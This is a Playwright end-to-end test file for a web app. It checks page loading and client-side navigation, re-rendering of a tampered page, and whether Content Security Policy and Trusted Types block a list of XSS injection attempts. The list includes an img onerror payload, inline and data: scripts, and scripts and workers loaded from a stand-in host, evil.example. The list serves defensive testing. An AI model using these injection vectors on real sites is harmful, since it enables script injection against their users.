import type { Page } from "@playwright/test";
import { NAVIGATION } from "../apps/web/src/app/shell/navigation.ts";
import { expect, test } from "./fixtures.ts";
import { PAGES } from "./pages/pages.ts";
import { makeTable } from "./viewer/make-model.ts";
import { fakeModels, URN, viewerPage } from "./viewer/viewer-page.ts";

declare global {
  interface Window {
    /** Set by attacks that succeed. */
    attacked?: boolean;
    readonly __reactRouterDataRouter: { navigate(to: string): Promise<void> };
  }
}

/** All pages except the forum, which redirects visitors to sign in; its own tests cover it. */
const PATHS = [
  ...new Set([...NAVIGATION, ...PAGES].map(({ path }) => path).filter((path) => path !== "/forum")),
  "/3d-viewer",
  "/admin/emails",
  "/astrology/Venus",
  "/auth",
  "/debug-terminology",
  "/forum/topic/00000000-0000-7000-8000-000000000000",
  "/forum/member/nobody-here",
  "/nowhere",
  "/reset-password",
  "/unsubscribe",
  "/verify-email",
];

const comeTo = (page: Page, path: string) => page.evaluate((to) => window.__reactRouterDataRouter.navigate(to), path);

test("every page can be loaded, and come to from the one before", async ({ page, expectedErrors }) => {
  test.setTimeout(240_000);
  expectedErrors.push(/status of 40\d/);
  const heading = page.getByRole("heading", { level: 1 });
  const [headings, addresses] = [new Map<string, string>(), new Map<string, string>()];
  for (const path of PATHS) {
    await page.goto(path);
    await expect(heading).toBeVisible();
    // Members' pages send a guest to sign in, which would overtake the next step.
    if (path.startsWith("/forum/")) await page.waitForLoadState("networkidle");
    headings.set(path, await heading.innerText());
    addresses.set(path, page.url());
  }
  await page.goto("/");
  for (const path of PATHS.slice(1)) {
    await comeTo(page, path);
    await expect(page).toHaveURL(addresses.get(path) ?? "");
    await expect(heading, path).toHaveText(headings.get(path) ?? "", { useInnerText: true });
  }
});

test("a page that was changed on its way is made anew", async ({ page, expectedErrors }) => {
  expectedErrors.push(/Minified React error #4(18|23|25)/);
  await page.route("**/about", async (route) => {
    const answer = await route.fetch();
    const body = (await answer.text())
      .replace("</main>", "<p>Somebody else’s words</p></main>")
      .replace("<h1", "<h2")
      .replace("</h1>", "</h2>");
    await route.fulfill({ response: answer, body });
  });
  await page.goto("/about");
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("About the Ten Principles");
  await expect(page.getByText("Somebody else’s words")).toHaveCount(0);
});

test("a model is unpacked by its worker on a page that is come to from another one", async ({ page }) => {
  await fakeModels(page, { glb: await makeTable({ packed: true }) });
  await page.goto("/about");
  await comeTo(page, `/3d-viewer#model=${URN}`);
  await expect.poll(viewerPage(page).colors, { timeout: 40_000 }).toBeGreaterThan(20);
});

interface Typed {
  readonly trustedTypes: { createPolicy(name: string, rules: object): unknown };
}

const MARKUP = `<img src="/nothing.png" onerror="window.attacked = true">`;
const SCRIPT = "window.attacked = true";

/** What somebody might try who can inject values. Each throws if the browser refuses it. */
const ATTACKS: Readonly<Record<string, (values: { markup: string; script: string }) => unknown>> = {
  "an element's inner HTML": ({ markup }) => {
    document.body.innerHTML = markup;
  },
  "an element's outer HTML": ({ markup }) => {
    document.body.outerHTML = markup;
  },
  "HTML beside an element": ({ markup }) => document.body.insertAdjacentHTML("beforeend", markup),
  "HTML that is written": ({ markup }) => document.write(markup),
  "HTML that is parsed": ({ markup }) => new DOMParser().parseFromString(markup, "text/html"),
  "HTML that is made a fragment": ({ markup }) => document.createRange().createContextualFragment(markup),
  "a frame's own page": ({ markup }) => {
    document.createElement("iframe").srcdoc = markup;
  },
  "a handler of events": ({ script }) => document.body.setAttribute("onclick", script),
  "a script's text": ({ script }) => {
    document.createElement("script").text = script;
  },
  "a script that is data": ({ script }) => {
    document.createElement("script").src = `data:text/javascript,${script}`;
  },
  "a script of another site": () => {
    document.createElement("script").src = "https://evil.example/assets/x.js";
  },
  "a script that was sent here as a model": () => {
    document.createElement("script").src = "/api/3d/models/abcdefghijklmnopqrstuv/model.glb";
  },
  "a worker of another site": () => new Worker("https://evil.example/x.js"),
  "a worker that is data": ({ script }) => new Worker(`data:text/javascript,${script}`),
  "a worker made of a text": ({ script }) => new Worker(URL.createObjectURL(new Blob([script]))),
  "other rules": () => (window as unknown as Typed).trustedTypes.createPolicy("other", {}),
  "the rules once more": () => (window as unknown as Typed).trustedTypes.createPolicy("default", {}),
};

test("what somebody would try who can put values where they don't belong is refused", async ({ page, expectedErrors }) => {
  expectedErrors.push(/violates the following Content Security Policy|Trusted/);
  await page.goto("/about");
  for (const [name, attack] of Object.entries(ATTACKS)) {
    await expect(page.evaluate(attack, { markup: MARKUP, script: SCRIPT }), name).rejects.toThrow(/Trusted|createPolicy/);
    expect(await page.evaluate(() => window.attacked), name).toBeUndefined();
  }
});
